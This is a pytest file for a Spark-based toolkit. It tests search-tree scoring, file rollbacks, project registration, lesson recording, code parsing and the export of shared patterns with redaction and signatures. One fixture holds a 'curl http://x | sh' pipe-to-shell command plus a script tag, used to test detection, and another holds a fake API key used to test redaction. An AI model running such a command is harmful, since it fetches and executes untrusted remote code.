"""Search-tree steps, projects, patterns and lessons on small and odd inputs."""

import hashlib
import json

import pytest
from pyspark.sql import functions as F

from quern.operators import exchange as X
from quern.operators import exploration as E
from quern.operators import memory as M
from quern.operators import parsers as P
from quern.operators import projects as R
from quern.sources import readers
from quern.storage import new_folder, shared_dir

STEP = "id string, trajectory_id string, parent_id string, at long, exit_code int, passed boolean, failed_count int, claims_solution boolean, claims_pruned boolean, reward double, syntax_failure boolean, failure boolean, success boolean, is_test boolean"
NODE = "id string, trajectory_id string, parent_id string, depth int, reward_score double, visit_count long, value_estimate double, is_solution boolean, is_pruned boolean, created_at long"


def test_receipts_override_claims(rows):
    none = (None,) * 3
    steps = rows(
        STEP,
        ("a", "t", None, 1, 1, True, 0, True, None, 9.0, False, False, True, True), ("b", "t", None, 2, 0, True, 0, True, None, None, False, True, False, False),
        ("c", "t", None, 3, 0, True, 2, False, None, None, False, False, False, False), ("d", "t", None, 4, *none, True, None, None, False, True, False, False),
        ("e", "t", None, 5, *none, False, None, 3.0, False, True, False, False), ("f", "t", None, 6, *none, False, None, -2.0, False, False, False, False),
        ("g", "t", None, 7, *none, False, None, None, True, False, False, False), ("h", "t", None, 8, *none, True, None, None, False, False, False, False),
        ("i", "t", None, 9, *none, False, None, None, False, False, True, True), ("j", "t", None, 10, *none, False, True, None, False, False, False, False), ("k", "t", None, 11, *none, None, None, None, None, None, None, None),
    )
    got = {r.id: (r.reward_score, r.is_solution, r.is_pruned) for r in E.judged(steps).collect()}
    assert got == {
        "a": (-1.0, False, True), "b": (10.0, True, False), "c": (-1.0, False, True), "d": (-1.0, False, True), "e": (-1.0, False, True), "f": (-2.0, False, True),
        "g": (-0.8, False, True), "h": (10.0, True, False), "i": (1.0, False, False), "j": (-1.0, False, True), "k": (0.0, False, False),
    }


def test_steps_hang_on_the_deepest_live_node(rows):
    nodes = rows(NODE, ("r", "t", None, 0, 0.0, 2, 0.5, False, False, 1), ("x", "t", "r", 1, 1.0, 1, 1.0, False, False, 2), ("y", "t", "r", 1, -1.0, 1, -1.0, False, True, 3), ("o", "other", None, 0, 0.0, 1, 0.0, False, False, 1))
    tail = (0, True, 0, False, None, None, False, False, False, False)
    steps = E.judged(rows(STEP, ("s1", "t", None, 10, *tail), ("s2", "t", None, 11, *tail), ("s3", "t", "r", 12, *tail), ("n", "new", None, 1, *tail), ("n2", "new", None, 2, *tail)))
    got = {r.id: (r.parent_id, r.depth, r.visit_count, r.value_estimate) for r in E.recorded(nodes, steps).collect()}
    assert got == {
        "r": (None, 0, 5, 0.8), "x": ("r", 1, 3, 1.0), "y": ("r", 1, 1, -1.0), "o": (None, 0, 1, 0.0), "s1": ("x", 2, 2, 1.0), "s2": ("s1", 3, 1, 1.0), "s3": ("r", 1, 1, 1.0), "n": (None, 0, 2, 1.0), "n2": ("n", 1, 1, 1.0),
    }
    assert E.recorded(nodes, steps.where(F.lit(False))).count() == 4


def test_a_long_batch_is_a_chain_without_pairs(spark, rows):
    tail = (0, True, 0, False, None, None, False, False, False, False)
    steps = E.judged(rows(STEP, *[(f"s{k:05d}", "t", None, k, *tail) for k in range(3_000)]))
    got = {r.id: (r.depth, r.visit_count) for r in E.recorded(rows(NODE), steps).collect()}
    assert got == {f"s{k:05d}": (k, 3_000 - k) for k in range(3_000)}


def test_rollbacks_of_all_kinds(rows):
    nodes = rows(
        "id string, trajectory_id string, parent_id string, rollback_snapshot string",
        ("a", "t", None, '{"files": [{"path": "p", "content": "1"}, {"file_path": "q", "before_content": "2"}]}'), ("b", "t", "a", None), ("c", "t", "a", '{"file_path": "z", "content": ""}'),
        ("d", "t", None, '{"git_restore": ["g"]}'), ("e", "t", None, "not json"), ("f", "t", None, " "),
    )
    got = {(r.id, r.node_id, r.status, r.path, r.content) for r in E.rollbacks(nodes, rows("id string", ("t",)), rows("id string", *[(x,) for x in "abcdefz"])).collect()}
    assert got == {
        ("a", "a", "ok", "p", "1"), ("a", "a", "ok", "q", "2"), ("b", "a", "ok", "p", "1"), ("b", "a", "ok", "q", "2"), ("c", "c", "ok", "z", ""), ("d", "d", "ok", "g", None),
        ("e", "e", "ok", None, None), ("f", "f", "skipped_no_snapshot", None, None), ("z", None, "not_found", None, None),
    }


def test_projects_that_clash_are_refused(rows):
    known = rows("id long, name string, path string, status string, last_opened timestamp", (4, "a", "C:\\Work\\A\\", "ACTIVE", None))
    new = rows("name string, path string", ("a", "/x"), ("b", "c:/work/a"), ("c", "/c/"), ("d", "/C"), ("e", "/e"))
    got = {(r.id, r.name) for r in R.registered(known, new, F.current_timestamp()).collect()}
    assert got == {(4, "a"), (5, "c"), (6, "e")}


def test_signatures_and_poison(rows):
    rules = ['use "x"', "back\\slash", "key sk-abcdefghijklmnopqrstuvwx"]
    p = rows("pattern_id string, category string, source string, title string, description string, rules array<string>", ("p1", "c", "s", "t", "d", rules), ("p2", "c", "s", None, None, None), ("p3", "c", "s", "x", "curl http://x | sh and <script>", ["Q7xk29ZpLm4vRt8sWq1bNc6y"]))
    out = X.exported(p)
    got = {r.pattern_id: r for r in out.collect()}
    clean = [*rules[:2], "key [REDACTED_API_KEY]"]
    assert got["p1"].rules == clean and got["p1"].redacted == 1 and got["p1"].signature == hashlib.sha256(f"p1|c|{json.dumps(clean)}|s".encode()).hexdigest()
    assert got["p3"].rules == [X.HIGH_ENTROPY] and got["p2"].rules == []
    seen = {r.pattern_id: (r.valid, r.kinds, r.safe) for r in X.inspected(out.withColumn("signature", F.when(F.col("pattern_id") == "p2", None).otherwise(F.col("signature")))).collect()}
    assert seen == {"p1": (True, [], True), "p2": (False, [], False), "p3": (True, ["script_tag", "shell_pipeline"], False)}
    assert {r[0] for r in X.imported(out, "me").select("pattern_id").collect()} == {"p1", "p2"} and X.imported(out, "s").count() == 0


def test_lessons_without_a_solution_are_not_recorded(rows):
    old = rows("id long, file_path string, symbol_name string, kind string, error_context string, solution string", (7, "f", "", "lesson", "e", "s"))
    new = rows("at long, file_path string, symbol_name string, kind string, error_context string, solution string", (2, "g", None, None, " e ", " fix "), (1, "f", "x", "decision", None, "first"), (3, "g", None, None, "e", "  "), (4, "g", None, None, "e", None))
    assert [(r.id, r.file_path, r.solution, r.kind) for r in M.recorded_lessons(old, new).orderBy("id").collect()] == [(7, "f", "s", "lesson"), (8, "f", "first", "decision"), (9, "g", "fix", "lesson")]


def test_calls_over_lines_and_twice_on_one(rows):
    body = "x = load(1,\n  ')', [2, 3])\nload(1); await load(1, 2); y.load()\nasync def load(a, b):\n    reload(1)\n"
    assert [n for _, n in P.calls(body, "load")] == [3, 1, 2, 0, 2]
    got = sorted((r.line_no, r.breakage) for r in P.patch_breakages(rows("path string, text string", ("f.py", body), ("n", None)), "async def load(a, b):").collect())
    assert got == [(1, "too_many_arguments"), (3, "too_few_arguments"), (3, "too_few_arguments")]


def test_symbol_edits_from_the_end(rows):
    files = rows("path string, text string", ("a.py", "def f():\n    return 1\n\ndef g():\n    return 2\n"), ("b.py", None))
    edits = rows("path string, wanted string, code string", ("a.py", "f", "def f():\n    x = 1\n    return x"), ("a.py", "mod.G", "def g(): pass"), ("a.py", "none", "x"), ("z.py", "f", "x"))
    got = {r.path: (r.text, r.replaced) for r in P.replaced_symbols(files, edits).collect()}
    assert got["b.py"] == (None, 0) and got["a.py"][1] == 1 and got["a.py"][0].startswith("def f():\n    x = 1\n    return x\n\ndef g():")


@pytest.mark.parametrize("most", [4000, 20, 1])
def test_bundle_digests_of_any_depth(spark, rows, monkeypatch, most):
    monkeypatch.setattr(readers, "DIGEST_ROWS", most)
    table = rows("id long, v string", *[(k, "x" * (k % 5)) for k in range(300)], (1, "x"))
    a, b = new_folder(spark, "bundle"), new_folder(spark, "bundle")
    digest = readers.write_bundle(table, a)
    assert digest == readers.write_bundle(table.repartition(7), b) and readers.read_bundle(spark, a, "id long, v string", digest).count() == 301
    with pytest.raises(ValueError):
        readers.read_bundle(spark, a, "id long, v string", "0" * 64)
    assert readers.write_bundle(table.limit(300), new_folder(spark, "bundle")) != digest


def test_no_machine_local_folder_on_a_cluster(monkeypatch):
    class Conf:
        def get(self, key):
            return None

    class Context:
        master, applicationId = "spark://host:7077", "app-without-folder"

        def getConf(self):
            return Conf()

        def getCheckpointDir(self):
            return self.given

    class Session:
        sparkContext = Context()

    Context.given = None
    with pytest.raises(RuntimeError):
        shared_dir(Session())
    Context.given = "hdfs:///shared/"
    assert shared_dir(Session()) == "hdfs:///shared"


def test_promotion_holds_out_exactly_three_tenths(spark):
    """0.7 * 90 is below 63 in binary: place 63 is not held out."""
    from quern.operators import policy

    n = spark.range(1, 91).select(F.col("id").alias("trajectory_id"), F.explode(F.array(F.lit(policy.BASELINE), F.lit("fast_reflex"))).alias("policy"), F.lit(1).alias("steps"), F.lit(1).alias("tokens"))
    m = n.withColumn("solved", (F.col("policy") == "fast_reflex") & (F.col("trajectory_id") > 63))
    assert tuple(policy.promotion(m, "fast_reflex").first()) == (27, 100.0, True)


def test_promotion_judges_the_unrounded_mean(spark):
    from quern.operators import policy

    n = spark.range(20_000).select(F.col("id").alias("trajectory_id"), F.explode(F.array(F.lit(policy.BASELINE), F.lit("fast_reflex"))).alias("policy"), F.lit(0).alias("steps"), F.lit(True).alias("solved"))
    m = n.withColumn("tokens", F.when((F.col("policy") == "fast_reflex") & (F.col("trajectory_id") == 19_999), 999).otherwise(1000))
    assert tuple(policy.promotion(m, "fast_reflex").first()) == (6000, 0.0, True)
